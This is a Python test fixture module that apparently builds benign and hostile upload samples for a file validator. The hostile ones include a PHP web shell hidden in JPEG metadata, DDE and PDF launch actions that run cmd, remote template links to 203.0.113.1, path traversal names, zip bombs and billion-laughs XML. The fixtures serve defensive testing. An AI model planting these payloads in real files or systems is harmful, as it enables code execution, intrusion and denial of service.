"""Files people send: good ones of every kind, and hostile ones, made here byte by byte."""

import io
import struct
import zipfile
import zlib

import pikepdf
from openpyxl import Workbook

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = "application/vnd.oasis.opendocument.text"


def pdf(change=None, **options):
    """A PDF of one page; change(document) may spoil it."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    target = io.BytesIO()
    document.save(target, static_id=True, **options)
    return target.getvalue()


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width=2, height=2, extra=b""):
    """A PNG whose header claims any size."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(b"\0\0\0" * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def segment(marker, body):
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(width=2, height=2, extra=b""):
    """A JPEG with all markers a reader walks over."""
    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    return b"\xff\xd8" + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0") + extra + frame + scan + b"\xff\xd9"


def archive(parts, *, stored=()):
    """A ZIP of parts (name -> bytes) in their order."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as writer:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            writer.writestr(zipfile.ZipInfo(name), content, kind)
    return target.getvalue()


def docx_parts(body="", links="", content_type=WORD, **more):
    """The parts of a small DOCX."""
    kind = f'<Override PartName="/word/document.xml" ContentType="{content_type}"/>'
    return {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types>{kind}</Types>'.encode(),
        "_rels/.rels": b'<Relationships><Relationship Id="r" Type="officeDocument" Target="a"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'.encode(),
        "word/_rels/document.xml.rels": f"<Relationships>{links}</Relationships>".encode(),
        **more,
    }  # fmt: skip


def docx(**options):
    return archive(docx_parts(**options))


def link(kind, target):
    """A relation to something outside the document."""
    return f'<Relationship Id="x" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'


def odt(content="<office:document-content/>", manifest="<manifest:manifest/>", **more):
    parts = {"mimetype": ODT, "content.xml": content, "META-INF/manifest.xml": manifest, **more}
    return archive(parts, stored=("mimetype",))


def xlsx():
    book, target = Workbook(), io.BytesIO()
    book.active.append(["Лицей", 1])
    book.save(target)
    return target.getvalue()


def overlapping():
    """A DOCX with a part inside another part: the directory names the inner bytes a second time."""
    inner = archive({"word/b.bin": b"\0" * 900_000})
    body = inner[: zipfile.ZipFile(io.BytesIO(inner)).start_dir]
    outer = archive({**docx_parts(), "word/a.bin": body}, stored=("word/a.bin",))
    start = zipfile.ZipFile(io.BytesIO(outer)).start_dir
    offset = zipfile.ZipFile(io.BytesIO(outer)).getinfo("word/a.bin").header_offset + 30 + len("word/a.bin")
    directory = inner[zipfile.ZipFile(io.BytesIO(inner)).start_dir : -22]
    directory = outer[start:-22] + directory[:42] + struct.pack("<I", offset) + directory[46:]
    count = len(docx_parts()) + 2
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return outer[:start] + directory + end


def lying_size():
    """A DOCX with a part that unpacks to more than its headers say."""
    data = bytearray(archive({**docx_parts(), "word/media/a.bin": b"\0" * 900_000}))
    entry = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/media/a.bin")
    directory = data.rfind(b"PK\x01\x02")
    for place in (entry.header_offset + 22, directory + 24):
        data[place : place + 4] = struct.pack("<I", 1000)
    return bytes(data)


def with_flag(data, bit):
    """Set a general-purpose flag in every header of an archive."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := changed.find(mark, place + 1)) >= 0:
            changed[place + offset] |= bit
    return bytes(changed)


def action(**keys):
    """A change that gives a PDF something to do on opening."""

    def change(document):
        document.Root.OpenAction = pikepdf.Dictionary(**keys)

    return change


def launch(document):
    document.pages[0].Annots = document.make_indirect(
        pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd"))]
        )
    )


def names_javascript(document):
    script = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script]))


def attach(name, content):
    def change(document):
        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)

    return change


def uri(target):
    def change(document):
        act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target))
        document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=act)])

    return change


def outside_stream(document):
    stream = document.make_stream(b"")
    stream.stream_dict.F = pikepdf.String("http://203.0.113.1/x")
    document.Root.Extra = stream


OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
ZIPPED = archive({"evil.txt": b"x"})
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ENTITIES = b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
SECRET = pikepdf.Encryption(user="secret", owner="secret")
SAMSUNG = b"\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1690000000000SEFH\x6b\0\0\0\x01\0\0\0\x18\0\0\0SEFT"
PICTURE = b"word/media/x"

GOOD = {
    "pdf": ("Заявление.pdf", pdf(), "pdf"),
    "pdf, an older one": ("Скан 1.PDF", pdf(force_version="1.4") + b"\r\n\0\0", "pdf"),
    "pdf with facts inside": ("выписка.pdf", pdf(attach("facts.json", b'{"a": 1}')), "pdf"),
    "pdf with a web link": ("программа.pdf", pdf(uri("https://example.org/")), "pdf"),
    "pdf packed": ("p.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf"),
    "jpeg": ("фото.jpg", jpeg(), "jpeg"),
    "jpeg of a phone": ("IMG_1.jpeg", jpeg() + jpeg() + SAMSUNG, "jpeg"),
    "png": ("скан.png", png(), "png"),
    "docx": ("Устав.docx", docx(), "docx"),
    "docx with a link": ("Устав.docx", docx(links=link("hyperlink", "https://example.org/")), "docx"),
    "docx of a local template": ("Ү.docx", docx(links=link("attachedTemplate", "file:///C:\\T\\n.dotm")), "docx"),
    "docx with a table inside": ("o.docx", docx(**{"word/embeddings/t.xlsx": xlsx()}), "docx"),
    "xlsx": ("Список.xlsx", xlsx(), "xlsx"),
    "odt": ("Приказ.odt", odt(), "odt"),
}

HOSTILE = {
    "empty": ("a.pdf", b"", "empty"),
    "svg": ("a.svg", SVG, "svg"),
    "svg named png": ("a.png", SVG, "svg"),
    "svg in utf-16": ("a.png", SVG.decode().encode("utf-16"), "svg"),
    "html named pdf": ("a.pdf", HTML, "html"),
    "text": ("a.txt", "просто текст".encode(), "unknown"),
    "program named pdf": ("a.pdf", b"MZ" + b"\0" * 200, "unknown"),
    "gif": ("a.gif", b"GIF89a" + b"\0" * 50, "unknown"),
    "old doc": ("a.doc", OLD_OFFICE + b"\0" * 600, "old-office"),
    "path": ("../../etc/cron.d/a.pdf", pdf(), "path"),
    "path of Windows": ("..\\..\\a.pdf", pdf(), "path"),
    "drive": ("C:a.pdf", pdf(), "path"),
    "line break in the name": ("a\r\nX: y.pdf", pdf(), "path"),
    "zero in the name": ("a.exe\0.pdf", pdf(), "path"),
    "png named pdf": ("a.pdf", png(), "extension"),
    "pdf named exe": ("a.pdf.exe", pdf(), "extension"),
    "docx named html": ("a.html", docx(), "extension"),
    "pdf not at the start": ("a.pdf", b"\n" + pdf(), "polyglot"),
    "html before a pdf": ("a.pdf", HTML + pdf(), "html"),
    "html after a pdf": ("a.pdf", pdf() + HTML, "polyglot"),
    "script after a pdf": ("a.pdf", pdf() + b"\nalert(1)//", "polyglot"),
    "html in a remark of a pdf": ("a.pdf", pdf().replace(b"%", b"%<html>", 2).replace(b"%<html>", b"%", 1), "polyglot"),
    "zip after a pdf": ("a.pdf", pdf() + ZIPPED, "polyglot"),
    "zip in a pdf": ("a.pdf", pdf().replace(b"startxref", ZIPPED + b"\nstartxref"), "polyglot"),
    "disk image in a pdf": ("a.pdf", pdf().ljust(0x8001, b"\n") + b"CD001\n%%EOF", "polyglot"),
    "cut pdf": ("a.pdf", pdf()[:200], "damaged"),
    "locked pdf": ("a.pdf", pdf(encryption=SECRET), "encrypted"),
    "javascript on opening": ("a.pdf", pdf(action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")), "active"),
    "javascript by name": ("a.pdf", pdf(names_javascript), "active"),
    "javascript in a packed pdf": (
        "a.pdf", pdf(names_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate), "active",
    ),
    "javascript link": ("a.pdf", pdf(uri("JavaScript:alert(1)")), "active"),
    "launch": ("a.pdf", pdf(launch), "active"),
    "form that sends itself": ("a.pdf", pdf(action(S=pikepdf.Name.SubmitForm, F="https://203.0.113.1")), "active"),
    "xfa": ("a.pdf", pdf(lambda document: setattr(document.Root, "AcroForm", pikepdf.Dictionary(XFA="x"))), "active"),
    "program in a pdf": ("a.pdf", pdf(attach("a.exe", b"MZ")), "embedded"),
    "program named json in a pdf": ("a.pdf", pdf(attach("a.json", b"MZ\x90")), "embedded"),
    "stream from elsewhere": ("a.pdf", pdf(outside_stream), "outside"),
    "html after a jpeg": ("a.jpg", jpeg() + HTML, "polyglot"),
    "zip after a jpeg": ("a.jpg", jpeg() + ZIPPED, "polyglot"),
    "film after a jpeg": ("a.jpg", jpeg() + b"\0\0\0\x18ftypmp42" + b"\0" * 40, "polyglot"),
    "script in a remark of a jpeg": ("a.jpg", jpeg(extra=segment(0xFE, b"<script>alert(1)</script>")), "polyglot"),
    "php in a jpeg": ("a.jpg", jpeg(extra=segment(0xE1, b"Exif\0\0<?php system($_GET[0]);")), "polyglot"),
    "cut jpeg": ("a.jpg", jpeg()[:-2], "damaged"),
    "jpeg of a wall": ("a.jpg", jpeg(65_000, 65_000), "pixels"),
    "html after a png": ("a.png", png() + HTML, "polyglot"),
    "script in a text of a png": ("a.png", png(extra=chunk(b"tEXt", b"a\0<script>")), "polyglot"),
    "broken png": ("a.png", png().replace(b"IDAT", b"IDAX"), "damaged"),
    "png of a wall": ("a.png", png(60_000, 60_000), "pixels"),
    "png of no size": ("a.png", png(0, 5), "damaged"),
    "plain zip": ("a.docx", ZIPPED, "unknown"),
    "bomb by ratio": ("a.docx", docx(**{"word/media/a.bin": b"\0" * 20_000_000}), "bomb"),
    "bomb by overlap": ("a.docx", overlapping(), "bomb"),
    "bomb that lies": ("a.docx", lying_size(), "bomb"),
    "bomb of many entries": ("a.docx", archive({f"word/{n}": b"" for n in range(5_001)}), "bomb"),
    "locked zip": ("a.docx", with_flag(docx(), 1), "encrypted"),
    "broken zip": ("a.docx", docx()[:-30], "damaged"),
    "wrong sum in a zip": ("a.docx", docx(**{"word/media/x": b"\x01"}).replace(PICTURE, b"word/media/y", 1), "damaged"),
    "data before a zip": ("a.docx", b"PK\x03\x04#!/bin/sh\n" + docx(), "polyglot"),
    "html after a zip": ("a.docx", docx() + HTML, "polyglot"),
    "path in a zip": ("a.docx", docx(**{"../../a.xml": b"<a/>"}), "damaged"),
    "two parts of one name": ("a.docx", docx(**{"WORD/document.xml": b"<a/>"}), "damaged"),
    "macros": ("a.docx", docx(**{"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": ("a.docx", docx(content_type=MACRO), "macros"),
    "macros of Excel 4": ("a.docx", docx(**{"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "program in a docx": ("a.docx", docx(**{"word/media/a.exe": b"x"}), "macros"),
    "program by content": ("a.docx", docx(**{"word/media/a.png": b"MZ".ljust(128, b"\0") + b"PE\0\0"}), "macros"),
    "old object in a docx": ("a.docx", docx(**{"word/embeddings/o.bin": OLD_OFFICE}), "embedded"),
    "macros in a table inside": (
        "a.docx", docx(**{"word/embeddings/t.xlsx": docx(**{"xl/vbaProject.bin": b"x"})}), "macros",
    ),
    "nested twice": (
        "a.docx", docx(**{"word/embeddings/t.docx": docx(**{"word/embeddings/t.xlsx": xlsx()})}), "embedded",
    ),
    "template from the net": ("a.docx", docx(links=link("attachedTemplate", "http://203.0.113.1/a.dotm")), "outside"),
    "template from a share": ("a.docx", docx(links=link("attachedTemplate", "file://203.0.113.1/a.dotm")), "outside"),
    "picture from the net": ("a.docx", docx(links=link("image", "https://203.0.113.1/a.png")), "outside"),
    "object from the net": ("a.docx", docx(links=link("oleObject", "mhtml:http://203.0.113.1!x-usc:a")), "outside"),
    "hidden by a sign": ("a.docx", docx(links=link("image", "https://203.0.113.1/&gt;>a.png")), "outside"),
    "script link": ("a.docx", docx(links=link("hyperlink", "javascript:alert(1)")), "outside"),
    "dde": ("a.docx", docx(body="<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"), "macros"),
    "dde in an attribute": ("a.docx", docx(body='<w:fldSimple w:instr="DDE cmd"/>'), "macros"),
    "billion laughs": ("a.docx", docx(**{"word/a.xml": ENTITIES}), "macros"),
    "billion laughs in utf-16": ("a.docx", docx(**{"word/a.xml": ENTITIES.decode().encode("utf-16")}), "macros"),
    "web page in a docx": ("a.docx", docx(**{"word/afchunk.html": HTML}), "macros"),
    "macros in an odt": ("a.odt", odt(**{"Basic/Standard/Module1.xml": b"<a/>"}), "macros"),
    "event in an odt": ("a.odt", odt("<a><script:event-listener/></a>"), "macros"),
    "picture from the net in an odt": ("a.odt", odt('<draw:image xlink:href="http://203.0.113.1/a"/>'), "outside"),
    "locked odt": ("a.odt", odt(manifest="<a><manifest:encryption-data/></a>"), "encrypted"),
}  # fmt: skip
